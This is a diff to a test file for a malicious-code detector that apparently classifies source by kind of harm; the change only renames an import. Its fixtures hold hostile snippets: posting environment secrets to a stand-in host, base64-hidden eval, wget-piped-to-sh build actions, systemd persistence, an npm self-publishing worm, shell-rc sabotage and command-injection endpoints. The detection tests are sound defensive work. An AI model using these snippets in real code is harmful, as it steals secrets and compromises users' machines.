@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { mayHarmOthers } from '../../lib/effects/written/shipped/may-harm.js';
-import { inWords } from '../../lib/effects/written/shipped/harm.js';
+import { harmInWords } from '../../lib/effects/written/shipped/harm.js';
 import { harmOf } from './harm-of.js';
 
 describe('a project in a folder that has the name of one for tests', () => {
@@ -57,7 +57,7 @@ describe('source that sends secrets away', () => {
     ['src/a.js', "class T { constructor() { this.d = process.env; } go() { return fetch('https://x.test/i', { method: 'POST', body: JSON.stringify(this.d) }); } }\nnew T().go();"],
     ['src/a.js', "const needle = require('needle');\nneedle('post', 'https://x.test/i', process.env, { json: true });"],
   ])('%s: %s', async (path, content) => {
-    expect(await harmOf(path, content)).toEqual([inWords('secrets sent')]);
+    expect(await harmOf(path, content)).toEqual([harmInWords('secrets sent')]);
   });
 
   it.each([
@@ -135,7 +135,7 @@ describe('source that hides what it runs', () => {
     ['lib/a.rb', 'eval(\'c3lzdGVtKCdpZCcp\'.unpack1(\'m\'))\n'],
     ['lib/a.pl', 'use MIME::Base64;\neval decode_base64(\'c3lzdGVtKCdpZCcp\');\n'],
   ])('%s: %s', async (path, content) => {
-    expect(await harmOf(path, content)).toEqual([inWords('hidden code')]);
+    expect(await harmOf(path, content)).toEqual([harmInWords('hidden code')]);
   });
 
   it.each([
@@ -168,7 +168,7 @@ describe('source that runs code of strangers', () => {
     ['binding.gyp', "{ 'targets': [ { 'target_name': 'n', 'type': 'none', 'actions': [ { 'action_name': 'x', 'inputs': [], 'outputs': ['x'], 'action': ['sh', '-c', 'wget -qO- http://x.test/g | sh'] } ] } ] }"],
     ['tools/persist.py', "open(b + '/a.py', 'w').write('subprocess.run(\"curl -so /tmp/p %s; chmod +x /tmp/p; /tmp/p\" % u, shell=True)')\nopen(os.path.expanduser('~/.config/systemd/user/a.service'), 'w').write('[Service]')"],
   ])('%s: %s', async (path, content) => {
-    expect(await harmOf(path, content)).toEqual([inWords('code of strangers')]);
+    expect(await harmOf(path, content)).toEqual([harmInWords('code of strangers')]);
   });
 
   it.each([
@@ -192,7 +192,7 @@ describe('source that harms those who run it', () => {
     ['src/t.js', "for (const f of ['.bashrc', '.zshrc']) fs.appendFileSync(process.env.HOME + '/' + f, '\\nsudo shutdown -h 0\\n');\nfetch('https://x.test');\nexecSync('claude --yolo');"],
     ['scripts/p.js', "const me = await (await fetch('https://registry.npmjs.org/-/whoami')).json();\nfor (const o of found) { p.scripts = { ...p.scripts, postinstall: 'node bundle.js' }; execSync('cd package && npm publish'); }"],
   ])('%s: %s', async (path, content) => {
-    expect(await harmOf(path, content)).toEqual([inWords('harm to users')]);
+    expect(await harmOf(path, content)).toEqual([harmInWords('harm to users')]);
   });
 
   it.each([
@@ -221,7 +221,7 @@ describe('source that runs whatever is asked of it', () => {
     ['app/a.rb', "def show\n  render plain: IO.popen(params[:c]).read\nend"],
     ['a.go', 'func h(w http.ResponseWriter, req *http.Request) {\n\tout, _ := exec.Command("sh", "-c", req.URL.Query().Get("c")).Output()\n\tw.Write(out)\n}'],
   ])('%s: %s', async (path, content) => {
-    expect(await harmOf(path, content)).toEqual([inWords('door for all')]);
+    expect(await harmOf(path, content)).toEqual([harmInWords('door for all')]);
   });
 
   it.each([
